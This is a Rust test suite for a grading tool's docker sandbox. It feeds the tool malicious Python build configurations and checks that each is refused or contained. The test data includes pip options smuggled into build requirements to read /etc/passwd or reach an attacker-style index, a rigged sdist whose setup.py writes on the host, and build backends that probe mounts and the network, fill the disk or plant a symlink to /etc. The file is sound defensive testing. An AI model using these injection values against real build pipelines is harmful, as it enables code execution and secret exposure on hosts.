//! Issue 9, C1 and M6: what a submission declares for its build never runs, and never writes,
//! on the host. Each test submits a malicious project to `cdtester run` with the docker runner
//! (as a student would hand it in) and checks the public report and the host.
//!
//! 1. `[build-system].requires` with a direct URL to an sdist (served on 127.0.0.1): refused, the
//!    sdist's setup.py never runs, the server is never asked.
//! 2. `requires` entries that are pip options (`-r/etc/passwd`, `--index-url=...`): refused, no
//!    line of /etc/passwd in the report, the fake index is never asked.
//! 3. An in-tree build backend (`backend-path`) that writes a marker at a host path, looks for
//!    writable mounts and tries the network: it runs only in the network-less container (the
//!    project's tests, run from the wheel it built, see what it saw).
//! 4. A build backend that writes 400 MiB with a 64 MiB environment cap, one that leaves a sparse
//!    10 GiB file in its output, and one that leaves a symlink to the host's /etc in it: each is
//!    refused with a clear error and the host's disk does not grow.

mod common;
mod docker_common;

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use common::{cdtester, describe, output, run_json, write_file};
use docker_common::{engine_available, python};

/// `cdtester run --json <project>` with the docker runner; returns the project's report.
fn run_docker(data: &Path, project: &Path, env: &[(&str, &str)]) -> (Output, serde_json::Value) {
    let bind = format!("127.0.0.1:{}", 20000 + (std::process::id() + unique()) % 20000);
    let mut cmd = cdtester(data);
    cmd.args(["run", "--json"])
        .arg(project)
        .env("CDT_RUNNER__DEFAULT", "docker")
        .env("CDT_NODE__BIND", &bind)
        .env("CDT_RUNNER__LIMITS__TIMEOUT_S", "120");
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = output(&mut cmd);
    let report = run_json(&out);
    let project = report["projects"].as_object().and_then(|m| m.values().next()).cloned().unwrap_or_default();
    assert!(!project.is_null(), "{}", describe(&out));
    (out, project)
}

fn unique() -> u32 {
    static NEXT: AtomicU64 = AtomicU64::new(0);
    NEXT.fetch_add(1, Ordering::Relaxed) as u32
}

/// A src-layout project (so the docker runner must build and install it) with `pyproject` as its
/// pyproject.toml and one passing test.
fn src_project(root: &Path, pyproject: &str) {
    write_file(root, "pyproject.toml", pyproject);
    write_file(root, "src/victim/__init__.py", "VALUE = 1\n");
    write_file(
        root,
        "tests/test_victim.py",
        "import victim\n\ndef test_value():\n    assert victim.VALUE == 1\n",
    );
}

fn requires_project(root: &Path, requires: &[&str]) {
    let list: Vec<String> = requires.iter().map(|r| format!("{r:?}")).collect();
    src_project(
        root,
        &format!(
            "[build-system]\nrequires = [{}]\nbuild-backend = \"setuptools.build_meta\"\n\n\
             [project]\nname = \"victim\"\nversion = \"0.1\"\n",
            list.join(", ")
        ),
    );
}

/// `python3 -m http.server` on 127.0.0.1 serving `dir`, logging every request to a file.
struct HttpServer {
    child: Child,
    port: u16,
    log: PathBuf,
}

impl HttpServer {
    fn start(dir: &Path) -> HttpServer {
        let port = TcpListener::bind("127.0.0.1:0").expect("a free port").local_addr().expect("addr").port();
        let log = dir.with_extension("log");
        let child = Command::new(python())
            .args(["-m", "http.server", "--bind", "127.0.0.1", "--directory"])
            .arg(dir)
            .arg(port.to_string())
            .env("PYTHONUNBUFFERED", "1")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).expect("server log"))
            .spawn()
            .expect("http.server starts");
        let deadline = Instant::now() + Duration::from_secs(10);
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(Instant::now() < deadline, "http.server did not listen on {port}");
            std::thread::sleep(Duration::from_millis(50));
        }
        HttpServer { child, port, log }
    }

    /// The request lines the server logged.
    fn requests(&self) -> Vec<String> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .filter(|l| l.contains("\"GET ") || l.contains("\"POST ") || l.contains("\"HEAD "))
            .map(str::to_string)
            .collect()
    }

    /// GETs `path` ourselves: proves the server answers and its log sees requests.
    fn get(&self, path: &str) -> String {
        let mut s = TcpStream::connect(("127.0.0.1", self.port)).expect("connect");
        write!(s, "GET {path} HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n").expect("request");
        let mut answer = Vec::new();
        s.read_to_end(&mut answer).expect("answer");
        String::from_utf8_lossy(&answer).lines().next().unwrap_or_default().to_string()
    }
}

impl Drop for HttpServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `served/evil-1.0.tar.gz`: an sdist whose setup.py writes `marker`.
fn evil_sdist(served: &Path, marker: &Path) {
    let stage = served.with_extension("stage");
    let setup = format!(
        "import pathlib\npathlib.Path({:?}).write_text('setup.py ran on the host')\n\
         from setuptools import setup\nsetup(name='evil', version='1.0')\n",
        marker.to_str().expect("utf-8 path")
    );
    write_file(&stage, "evil-1.0/setup.py", &setup);
    write_file(&stage, "evil-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n");
    std::fs::create_dir_all(served).expect("served dir");
    let status = Command::new("tar")
        .arg("-czf")
        .arg(served.join("evil-1.0.tar.gz"))
        .arg("-C")
        .arg(&stage)
        .arg("evil-1.0")
        .status()
        .expect("tar runs");
    assert!(status.success());
}

#[test]
fn direct_url_build_requirements_are_refused_and_never_fetched() {
    if !engine_available("direct_url_build_requirements_are_refused_and_never_fetched") {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let marker = dir.path().join("setup-py-ran-on-the-host");
    let served = dir.path().join("served");
    evil_sdist(&served, &marker);
    let server = HttpServer::start(&served);
    let url = format!("http://127.0.0.1:{}/evil-1.0.tar.gz", server.port);
    let attacks =
        [format!("evil @ {url}"), format!("evil@{url}"), url.clone(), "./evil-1.0.tar.gz".to_string()];
    for (i, attack) in attacks.iter().enumerate() {
        let root = dir.path().join(format!("victim{i}"));
        requires_project(&root, &["setuptools>=61", attack]);
        // A copy of the sdist next to the project: a path requirement finds nothing to build.
        std::fs::copy(served.join("evil-1.0.tar.gz"), root.join("evil-1.0.tar.gz")).expect("copy sdist");
        let (out, project) = run_docker(&dir.path().join(format!("data{i}")), &root, &[]);
        let error = project["error"].as_str().unwrap_or_default();
        assert!(error.contains("refused"), "{attack}: {}", describe(&out));
        assert!(error.contains("build requirement"), "{attack}: {error}");
        assert_eq!(project["grade"], serde_json::Value::Null, "{attack}: nothing ran");
    }
    assert!(!marker.exists(), "the sdist's setup.py ran on the host");
    assert_eq!(server.requests(), Vec::<String>::new(), "pip on the host asked the attacker's server");
    // The server was up and its log sees requests: the check above can fail.
    assert!(server.get("/evil-1.0.tar.gz").contains("200"));
    assert_eq!(server.requests().len(), 1, "{:?}", server.requests());
}

#[test]
fn pip_options_in_build_requirements_are_refused_and_leak_nothing() {
    if !engine_available("pip_options_in_build_requirements_are_refused_and_leak_nothing") {
        return;
    }
    let passwd = std::fs::read_to_string("/etc/passwd").expect("/etc/passwd");
    let first_line = passwd.lines().next().expect("a first line").to_string();
    let dir = tempfile::tempdir().expect("tempdir");
    let index = dir.path().join("index");
    std::fs::create_dir_all(&index).expect("index dir");
    let server = HttpServer::start(&index);
    let attacks = [
        "-r/etc/passwd".to_string(),
        "--requirement=/etc/passwd".to_string(),
        format!("--index-url=http://127.0.0.1:{}/simple", server.port),
        "-e.".to_string(),
    ];
    for (i, attack) in attacks.iter().enumerate() {
        let root = dir.path().join(format!("victim{i}"));
        requires_project(&root, &[attack, "setuptools>=61"]);
        let (out, project) = run_docker(&dir.path().join(format!("data{i}")), &root, &[]);
        let error = project["error"].as_str().unwrap_or_default();
        assert!(error.contains("refused") && error.contains("option"), "{attack}: {}", describe(&out));
        let everything =
            format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        assert!(!everything.contains(&first_line), "{attack}: /etc/passwd leaked: {}", describe(&out));
        assert!(!everything.contains(":/bin/"), "{attack}: passwd-like content leaked: {}", describe(&out));
    }
    assert_eq!(server.requests(), Vec::<String>::new(), "pip on the host asked the attacker's index");
}

/// The host's address on its default route (no packet is sent), if it has one.
fn host_address() -> Option<String> {
    let s = UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("1.1.1.1:53").ok()?;
    Some(s.local_addr().ok()?.ip().to_string())
}

/// An in-tree build backend: runs `attack` (Python statements that may fill `RESULTS`), then
/// builds a wheel of `src/victim` plus `victim/_seen.py` holding `RESULTS`.
fn backend_project(root: &Path, attack: &str) {
    src_project(
        root,
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n\n\
         [project]\nname = \"victim\"\nversion = \"0.1\"\n",
    );
    let backend = format!(
        "import base64, hashlib, os, zipfile\n\
         RESULTS = {{}}\n\
         def _attack():\n{}\n\
         def _hash(data):\n    d = hashlib.sha256(data).digest()\n    \
             return 'sha256=' + base64.urlsafe_b64encode(d).rstrip(b'=').decode()\n\
         def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    \
             _attack()\n    \
             here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\n    \
             files = {{\n        \
                 'victim/__init__.py': open(os.path.join(here, 'src/victim/__init__.py'), 'rb').read(),\n        \
                 'victim/_seen.py': ('RESULTS = %r\\n' % (RESULTS,)).encode(),\n        \
                 'victim-0.1.dist-info/METADATA': b'Metadata-Version: 2.1\\nName: victim\\nVersion: 0.1\\n',\n        \
                 'victim-0.1.dist-info/WHEEL': b'Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n',\n    \
             }}\n    \
             record = ''.join('%s,%s,%d\\n' % (n, _hash(d), len(d)) for n, d in files.items())\n    \
             record += 'victim-0.1.dist-info/RECORD,,\\n'\n    \
             name = 'victim-0.1-py3-none-any.whl'\n    \
             with zipfile.ZipFile(os.path.join(wheel_directory, name), 'w') as z:\n        \
                 for n, d in files.items():\n            z.writestr(n, d)\n        \
                 z.writestr('victim-0.1.dist-info/RECORD', record)\n    \
             return name\n",
        attack.lines().map(|l| format!("    {l}\n")).collect::<String>()
    );
    write_file(root, "_build/backend.py", &backend);
}

#[test]
fn build_backends_run_only_in_the_network_less_sandbox() {
    if !engine_available("build_backends_run_only_in_the_network_less_sandbox") {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let marker = dir.path().join("backend-ran-on-the-host");
    let listener = TcpListener::bind("0.0.0.0:0").expect("a host listener");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let mut targets = vec![format!("('127.0.0.1', {port})"), "('1.1.1.1', 53)".to_string()];
    if let Some(ip) = host_address() {
        targets.push(format!("({ip:?}, {port})"));
    }
    let attack = format!(
        "import socket\n\
         try:\n    os.makedirs({dir:?}, exist_ok=True)\n    open({marker:?}, 'w').write('x')\n    \
             RESULTS['marker'] = 'written where the backend runs'\n\
         except OSError as e:\n    RESULTS['marker'] = 'failed: %s' % e\n\
         writable = []\n\
         for line in open('/proc/self/mounts'):\n    target = line.split()[1]\n    \
             if target == '/tmp' or target.startswith(('/tmp/', '/proc', '/sys', '/dev')):\n        continue\n    \
             try:\n        open(os.path.join(target, '.cdt-probe'), 'w').close()\n        writable.append(target)\n    \
             except OSError:\n        pass\n\
         RESULTS['writable'] = writable\n\
         network = {{}}\n\
         for addr in [{targets}]:\n    \
             try:\n        socket.create_connection(addr, timeout=3).close()\n        network[repr(addr)] = 'connected'\n    \
             except OSError as e:\n        network[repr(addr)] = 'failed: %s' % e\n\
         try:\n    socket.getaddrinfo('pypi.org', 443)\n    network['dns'] = 'resolved'\n\
         except OSError as e:\n    network['dns'] = 'failed: %s' % e\n\
         RESULTS['network'] = network\n",
        dir = dir.path().to_str().expect("utf-8"),
        marker = marker.to_str().expect("utf-8"),
        targets = targets.join(", "),
    );
    let root = dir.path().join("probe");
    backend_project(&root, &attack);
    write_file(
        &root,
        "tests/test_seen.py",
        "from victim._seen import RESULTS\n\n\
         def test_backend_ran():\n    assert RESULTS['marker'] == 'written where the backend runs'\n\n\
         def test_no_writable_mount():\n    assert RESULTS['writable'] == []\n\n\
         def test_no_network():\n    assert RESULTS['network'] and all(v.startswith('failed') for v in RESULTS['network'].values()), RESULTS\n",
    );
    let (out, project) = run_docker(&dir.path().join("data"), &root, &[]);
    assert_eq!(project["error"], serde_json::Value::Null, "{}", describe(&out));
    assert_eq!(project["tests"]["passed"], 4, "{}", describe(&out));
    assert!(!marker.exists(), "the build backend wrote on the host");
    assert!(listener.accept().is_err(), "the build backend reached the host's listener");
}

/// Bytes used under `dir` (files only; a vanished file counts as empty).
fn du(dir: &Path) -> u64 {
    let mut total = 0;
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            match e.metadata() {
                Ok(m) if m.is_dir() => stack.push(e.path()),
                Ok(m) => total += std::os::unix::fs::MetadataExt::blocks(&m) * 512,
                Err(_) => {}
            }
        }
    }
    total
}

/// Free bytes on the file system holding `path`.
fn free_bytes(path: &Path) -> u64 {
    let c = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).expect("path");
    let mut s: libc::statvfs = unsafe { std::mem::zeroed() };
    assert_eq!(unsafe { libc::statvfs(c.as_ptr(), &mut s) }, 0);
    s.f_bavail as u64 * s.f_frsize as u64
}

#[test]
fn build_output_is_capped_and_checked_before_it_is_kept() {
    if !engine_available("build_output_is_capped_and_checked_before_it_is_kept") {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let cases = [
        (
            "writes-400-mib",
            // Into the environment's output (a writable bind mount of the host before the fix).
            "out = next(d for d in ['/out', '/tmp/work/env', '.'] if os.access(d, os.W_OK) or d == '/tmp/work/env')\n\
             os.makedirs(out, exist_ok=True)\n\
             with open(os.path.join(out, 'big.bin'), 'wb') as f:\n    \
                 for _ in range(400):\n        f.write(b'x' * (1 << 20))\n",
            "over 64 MiB",
        ),
        (
            "sparse-10-gib",
            "os.makedirs('/tmp/work/env', exist_ok=True)\n\
             with open('/tmp/work/env/sparse.bin', 'wb') as f:\n    f.truncate(10 << 30)\n",
            "over 64 MiB",
        ),
        (
            "symlink-to-etc",
            "os.makedirs('/tmp/work/env', exist_ok=True)\nos.symlink('/etc', '/tmp/work/env/host-etc')\n",
            "symlink",
        ),
    ];
    for (name, attack, expected) in cases {
        let root = dir.path().join(name);
        backend_project(&root, attack);
        let data = dir.path().join(format!("data-{name}"));
        std::fs::create_dir_all(&data).expect("data dir");
        let free_before = free_bytes(&data);
        let peak = AtomicU64::new(0);
        let done = AtomicBool::new(false);
        let (out, project) = std::thread::scope(|s| {
            s.spawn(|| {
                while !done.load(Ordering::Relaxed) {
                    peak.fetch_max(du(&data), Ordering::Relaxed);
                    std::thread::sleep(Duration::from_millis(100));
                }
            });
            let r = run_docker(&data, &root, &[("CDT_RUNNER__DOCKER__ENV_MB", "64")]);
            done.store(true, Ordering::Relaxed);
            r
        });
        let error = project["error"].as_str().unwrap_or_default();
        assert!(error.contains(expected), "{name}: expected {expected:?}: {}", describe(&out));
        let peak = peak.load(Ordering::Relaxed);
        println!("{name}: data dir peak {} KiB, error: {error}", peak / 1024);
        assert!(peak < 32 << 20, "{name}: the node's data dir grew to {peak} bytes");
        let dropped = free_before.saturating_sub(free_bytes(&data));
        assert!(dropped < 300 << 20, "{name}: the host's disk lost {dropped} bytes");
        let envs = data.join("docker/envs");
        let kept: Vec<_> =
            std::fs::read_dir(&envs).into_iter().flatten().flatten().map(|e| e.file_name()).collect();
        assert!(kept.is_empty(), "{name}: a refused environment was kept: {kept:?}");
    }
}
